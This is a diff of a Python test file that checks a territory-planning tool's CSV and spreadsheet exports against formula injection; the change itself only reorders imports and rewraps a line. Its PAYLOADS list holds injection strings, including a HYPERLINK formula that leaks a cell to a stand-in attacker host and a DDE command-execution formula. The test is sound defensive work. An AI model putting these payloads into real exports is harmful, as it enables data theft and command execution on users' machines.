@@ -17,11 +17,12 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from tests.cli_runner import run
-from tests.conftest import make_grid_project
 from territory_desk.domain.leads.rules import SETTINGS_KEY
 from territory_desk.io.tables.safe_csv import FORMULA_START
 from territory_desk.persistence.store import save_project
+
+from tests.cli_runner import run
+from tests.conftest import make_grid_project
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(A1)",
             "\t=1", "\r=1"]
@@ -117,7 +118,8 @@ def test_optimize_moves_and_compare(project, tmp_path, capsys):
     safe, raw = _both(capsys, "compare", project, base, "=Plan", "--format", "csv", "-o", out, out=out)
     _check(safe, raw, PAYLOADS[:3])
     for kind in ("units", "accounts"):
-        safe, raw = _both(capsys, "compare", project, base, "=Plan", "--list", kind, "--format", "csv", "-o", out, out=out)
+        safe, raw = _both(capsys, "compare", project, base, "=Plan", "--list", kind, "--format", "csv", "-o", out,
+                          out=out)
         assert len(safe) > 1 and evaluated_cells(safe) == [] and evaluated_cells(raw)  # unit/account names
     code, text, _ = run(capsys, "compare", project, base, "=Plan", "--list", "accounts")  # the tab-separated listing
     assert evaluated_cells([line.split("\t") for line in text.splitlines()[1:]]) == []
